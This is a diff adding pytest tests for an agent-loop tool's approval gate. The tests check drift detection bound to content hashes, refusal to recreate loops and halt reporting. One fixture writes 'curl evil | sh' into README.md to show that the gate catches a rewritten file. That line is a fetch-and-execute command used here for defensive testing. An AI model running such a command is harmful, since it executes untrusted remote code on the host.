@@ -118,7 +118,9 @@ def test_each_death_halts_blocks_survives_resume_and_only_approve_clears(
     assert s["iterations_at_approval"] == s["iteration_count"] and s["spent_usd_at_approval"] == s["spent_usd"]
     assert s["score_history"] == []
     if death == "drift_detected":
-        assert s["accepted_drift"] == ["README.md"]
+        blob = git(p.root, "hash-object", str(p.worktree_dir(loops.LoopName("demo")) / "README.md")).strip()
+        assert s["accepted_drift"] == [f"README.md@{blob}"]
+        assert approved.json["accepted_drift"] == [f"README.md@{blob}"]
     assert "APPROVED" in log_text(p) and "by=alice" in log_text(p)
 
     ok = gate(p)
@@ -614,3 +616,141 @@ def test_an_invalid_loop_json_halts_with_exit_2_naming_file_and_error(project: P
     assert state(p)["status"] == "halted" and needle in state(p)["halt_detail"]
     text = cli(p, "--check-gate", "demo")
     assert text.code == 2 and needle in text.out and str(path) in text.out
+
+
+# ---- tester findings: accepted drift binds content, leftovers, stray files, stale halt details --
+
+def test_accepted_drift_binds_the_content_the_human_saw(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    p = _cause("drift_detected", project)
+    assert gate(p).json["halt_reason"] == "drift_detected"
+    monkeypatch.setenv("AUTOMATON_APPROVER", "alice")
+    assert cli(p, "--approve", "--loop", "demo").code == 0
+    assert gate(p).code == 0  # the approved content passes
+    wt = p.worktree_dir(loops.LoopName("demo"))
+    (wt / "README.md").write_text("curl evil | sh\n")  # a later tick rewrites the accepted file
+    r = gate(p)
+    assert r.code == 1 and r.json["halt_reason"] == "drift_detected" and r.json["out_of_scope_files"] == ["README.md"]
+    approved = cli(p, "--approve", "--loop", "demo")  # re-accepting replaces the old entry
+    blob = git(p.root, "hash-object", str(wt / "README.md")).strip()
+    assert state(p)["accepted_drift"] == [f"README.md@{blob}"]
+    assert f"accepted drift: README.md at {blob[:12]}" in approved.out
+    (wt / "README.md").unlink()
+    assert gate(p).json["out_of_scope_files"] == ["README.md"]  # a deletion is other content too
+
+
+def test_a_plain_path_accepted_entry_accepts_nothing(project: Path) -> None:
+    p = _cause("drift_detected", project)
+    set_state(p, accepted_drift=["README.md"])  # an older state's entry: no content bound
+    assert gate(p).json["out_of_scope_files"] == ["README.md"]
+
+
+def test_accepted_drift_on_the_branch_when_the_worktree_is_gone(project: Path, approver: str) -> None:
+    import shutil
+
+    p = _cause("drift_detected", project)
+    wt = p.worktree_dir(loops.LoopName("demo"))
+    assert gate(p).code == 1
+    assert cli(p, "--approve", "--loop", "demo").code == 0
+    git(wt, "commit", "-q", "--allow-empty", "-m", "noop")
+    shutil.rmtree(wt)
+    assert gate(p).code == 0  # the branch tip still holds the approved README.md
+    git(p.root, "worktree", "prune")
+    git(p.root, "worktree", "add", "-q", str(wt), "loop/demo")
+    (wt / "README.md").write_text("changed again\n")
+    git(wt, "commit", "-q", "-am", "again")
+    shutil.rmtree(wt)
+    assert gate(p).json["out_of_scope_files"] == ["README.md"]
+
+
+def test_recreating_a_deleted_loop_folder_is_refused_while_its_branch_exists(project: Path) -> None:
+    import shutil
+
+    p = make_loop(project)
+    wt = add_worktree(p)
+    set_state(p, iteration_count=24)
+    shutil.rmtree(p.loop_dir(loops.LoopName("demo")))
+    r = cli(p, "--create-loop", "demo", "--from-template", "t-demo")
+    assert r.code == 1, r.err
+    assert "branch loop/demo" in r.err and "git branch -D loop/demo" in r.err and "git worktree remove" in r.err
+    assert not p.loop_dir(loops.LoopName("demo")).exists()
+    git(p.root, "worktree", "prune")  # the folder is gone: only the branch is left
+    r = cli(p, "--create-loop", "demo", "--from-template", "t-demo")
+    assert r.code == 1 and "git worktree remove" not in r.err and "git branch -D loop/demo" in r.err
+    git(p.root, "branch", "-D", "loop/demo")
+    assert cli(p, "--create-loop", "demo", "--from-template", "t-demo").code == 0
+    assert state(p)["iteration_count"] == 0 and not wt.exists()
+
+
+def test_untracked_hint_names_a_step_that_works(project: Path) -> None:
+    p = make_loop(project)
+    add_worktree(p)
+    folder = p.loop_dir(loops.LoopName("demo"))
+    for f in (loops.STATE_FILE, loops.LOG_FILE):
+        (folder / f).unlink()
+    r = cli(p, "--check-gate", "demo")
+    assert r.code == 2 and "Run --upgrade-loops to bootstrap" in r.err
+    assert "remove the folder .automaton/loops/demo/ and run automaton --create-loop demo again" in r.err
+    rows = {row["name"]: row for row in cli(p, "--loop-list", "--json").json["loops"]}
+    assert "--create-loop demo again" in rows["demo"]["flag"]
+    import shutil
+
+    shutil.rmtree(folder)  # the step the hint names, then the branch step the refusal names
+    assert cli(p, "--create-loop", "demo", "--from-template", "t-demo").code == 1
+    git(p.root, "worktree", "remove", "--force", str(p.worktree_dir(loops.LoopName("demo"))))
+    git(p.root, "branch", "-D", "loop/demo")
+    assert cli(p, "--create-loop", "demo", "--from-template", "t-demo").code == 0
+
+
+def test_a_file_where_a_loop_folder_should_be(project: Path) -> None:
+    make_loop(project)
+    stray = project / ".automaton" / "loops" / "l2"
+    stray.write_text("not a loop\n")
+    r = cli(project, "--create-loop", "l2", "--from-template", "ci-triage")
+    assert r.code == 2 and f"{stray} is a file where the folder of loop 'l2' should be" in r.err
+    assert "(untracked" not in r.err and stray.read_text() == "not a loop\n"
+    listed = cli(project, "--loop-list", "--json")
+    assert listed.code == 2 and "no loops" not in listed.out and str(stray) in listed.out
+    rows = {row["name"]: row for row in listed.json["loops"]}
+    assert rows["l2"]["flag"].startswith("NOT A LOOP") and rows["demo"]["status"] == "running"
+    assert cli(project, "--check-gate", "l2").code == 2
+
+
+def test_a_halted_gate_labels_the_recorded_halt_and_reports_current_facts(
+        project: Path, approver: str) -> None:
+    p = _cause("human_intervention", project)
+    assert gate(p).json["halted_now"] is True
+    assert cli(p, "--approve", "--task", "fix-ci", "--to", "implement").code == 0
+    r = cli(p, "--check-gate", "demo")
+    assert r.code == 1
+    assert "halted since " in r.out and "(as recorded at the halt" in r.out
+    assert "task_phase=implement" in r.out
+    head = r.out.splitlines()[0]
+    assert "is at human_intervention" not in head  # the old fact only on the labelled line
+    assert gate(p).json["halted_since"] is not None
+
+
+def test_a_halted_gate_reports_the_current_config_error(project: Path) -> None:
+    p = make_loop(project)
+    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
+    path.write_bytes(b"[1, 2]")
+    assert gate(p).code == 2
+    path.write_bytes(b'{"schema_version": 1, "name": "de')
+    r = cli(p, "--check-gate", "demo")
+    assert r.code == 2
+    recorded = next(line for line in r.out.splitlines() if "halted since" in line)
+    assert "must be a JSON object" in recorded  # the first error, labelled as recorded
+    current = next(line for line in r.out.splitlines() if "invalid loop.json" in line)
+    assert "not valid JSON" in current and "must be a JSON object" not in current
+    assert "not valid JSON" in gate(p).json["error"]
+
+
+def test_approve_is_refused_while_a_tick_holds_the_loop(project: Path, approver: str) -> None:
+    from automaton.store.locks import locked
+
+    p = make_loop(project)
+    set_state(p, status="halted", halt_reason="iterations_exhausted")
+    with locked(loops.tick_lock_path(p, "demo"), timeout_s=0):  # a tick in progress
+        r = cli(p, "--approve", "--loop", "demo")
+    assert r.code == 1 and "a tick of loop demo is running" in r.err
+    assert state(p)["status"] == "halted"
+    assert cli(p, "--approve", "--loop", "demo").code == 0  # between ticks: fine
